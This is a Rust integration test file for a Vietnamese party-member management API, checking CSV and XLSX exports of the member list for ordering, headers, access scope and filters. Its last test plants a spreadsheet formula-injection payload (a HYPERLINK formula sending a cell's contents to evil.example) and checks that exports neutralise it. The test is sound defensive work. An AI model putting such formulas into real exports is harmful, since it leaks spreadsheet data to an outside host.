//! The member list as a CSV spreadsheet: same filters and order as the list, scope kept.

use qldv_tests::{official_json, Client, TestApp};
use serde_json::json;

/// Official members born in 1980 and admitted in 2005, one per name, in `cell`.
async fn officials(admin: &Client, cell: i64, names: &[&str]) {
    for (n, name) in (0u32..).zip(names) {
        admin
            .create_member(official_json(cell, name, 1980, "2005-03-07", n))
            .await;
    }
}

#[actix_web::test]
async fn the_member_list_exports_as_csv_in_vietnamese_order() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let a = admin.create_tree("A").await;
    let b = admin.create_tree("B").await;
    officials(
        &admin,
        a.cell,
        &["Trần Thị Bình", "Nguyễn Văn An", "Lê Văn Cường, con"],
    )
    .await;
    admin
        .create_member(official_json(
            b.cell,
            "Phạm Văn Khác",
            1980,
            "2005-03-07",
            9,
        ))
        .await;
    let res = admin
        .get(&format!(
            "/api/v1/members/export?organization_id={}",
            a.province
        ))
        .await;
    res.assert_status(200);
    assert_eq!(
        res.header("content-type").as_deref(),
        Some("text/csv; charset=utf-8")
    );
    let lines: Vec<&str> = res.text.trim_end().split("\r\n").collect();
    // The headers are the member fields' labels, as in the import template (the admission
    // column holds the decision's date and is headed so, as the template heads it).
    assert_eq!(
        lines[0],
        "\u{feff}Họ và tên,Giới tính,Ngày sinh,Số CCCD,Số CMND,Trạng thái,Ngày quyết định kết nạp,\
         Ngày chính thức,Tuổi đảng,Số thẻ đảng viên,Mã chi bộ,Quê quán,Nơi ở hiện nay,Dân tộc,\
         Tôn giáo,Số lý lịch"
    );
    let names: Vec<&str> = lines[1..]
        .iter()
        .map(|l| l.split(",Nam,").next().unwrap())
        .collect();
    assert_eq!(
        names,
        ["Nguyễn Văn An", "Trần Thị Bình", "\"Lê Văn Cường, con\""]
    );
    assert!(lines[1].contains(",15/01/1980,"));
    // Another province's organizer gets 404, not data.
    let other = app.user("org-b", "organizer", Some(b.province)).await;
    other
        .get(&format!(
            "/api/v1/members/export?organization_id={}",
            a.province
        ))
        .await
        .assert_problem(404, "not_found");
    // Filters as in the list.
    let res = admin
        .get(&format!(
            "/api/v1/members/export?organization_id={}&q=binh",
            a.province
        ))
        .await;
    assert_eq!(res.text.trim_end().split("\r\n").count(), 2);
}

#[actix_web::test]
async fn the_member_list_exports_as_xlsx_with_the_same_rows() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let a = admin.create_tree("A").await;
    officials(
        &admin,
        a.cell,
        &["Trần Thị Bình", "Nguyễn Văn An", "Đặng Văn Đức"],
    )
    .await;
    let res = admin
        .get(&format!(
            "/api/v1/members/export?organization_id={}&format=xlsx",
            a.province
        ))
        .await;
    res.assert_status(200);
    let rows = qldv_tests::xlsx_rows(&res.body);
    assert_eq!(
        rows[0][..4],
        ["Họ và tên", "Giới tính", "Ngày sinh", "Số CCCD"]
    );
    let names: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    // The same rows in the same (Vietnamese) order as the CSV.
    let csv = admin
        .get(&format!(
            "/api/v1/members/export?organization_id={}",
            a.province
        ))
        .await;
    let csv_names: Vec<&str> = csv
        .text
        .trim_end()
        .split("\r\n")
        .skip(1)
        .map(|l| l.split(',').next().unwrap())
        .collect();
    assert_eq!(names, csv_names);
    assert_eq!(names.len(), 3);
    assert_eq!(rows[1][2], "15/01/1980");
}

/// The fields of a CSV answer (after the byte-order mark), record by record.
fn csv_records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Whether a spreadsheet program would run a cell as a formula (a plain number is a number).
fn runs_as_formula(cell: &str) -> bool {
    let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['+', 'e', 'E']);
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

#[actix_web::test]
async fn cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_in_every_csv() {
    let app = TestApp::new().await;
    let admin = app.admin().await;
    let a = admin.create_tree("A").await;
    let hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")";
    let mut m = official_json(a.cell, "Nguyễn Văn An", 1980, "2005-03-07", 1);
    m["hometown"] = json!(hyperlink);
    m["current_address"] = json!("+84 912 000 111, Hà Nội");
    m["religion"] = json!("@SUM(1+1)");
    admin.create_member(m).await;
    let res = admin
        .get(&format!(
            "/api/v1/members/export?organization_id={}",
            a.province
        ))
        .await;
    res.assert_status(200);
    let records = csv_records(&res.text);
    let member = &records[1];
    assert_eq!(member[11], format!("'{hyperlink}"));
    assert_eq!(member[12], "'+84 912 000 111, Hà Nội");
    assert_eq!(member[14], "'@SUM(1+1)");
    for cell in records.iter().flatten() {
        assert!(!runs_as_formula(cell), "{cell:?} in {}", res.text);
    }
    // Reports: an organisation's name is a cell too.
    admin.create_org("=1+2", "cell", Some(a.commune)).await;
    let res = admin
        .send(
            actix_web::http::Method::GET,
            &format!(
                "/api/v1/reports/movement?organization_id={}&from=2026-01-01&to=2026-12-31",
                a.commune
            ),
            None,
            &[("accept", "text/csv")],
        )
        .await;
    res.assert_status(200);
    let records = csv_records(&res.text);
    assert!(
        records.iter().flatten().any(|c| c == "'=1+2"),
        "{}",
        res.text
    );
    for cell in records.iter().flatten() {
        assert!(!runs_as_formula(cell), "{cell:?} in {}", res.text);
    }
}
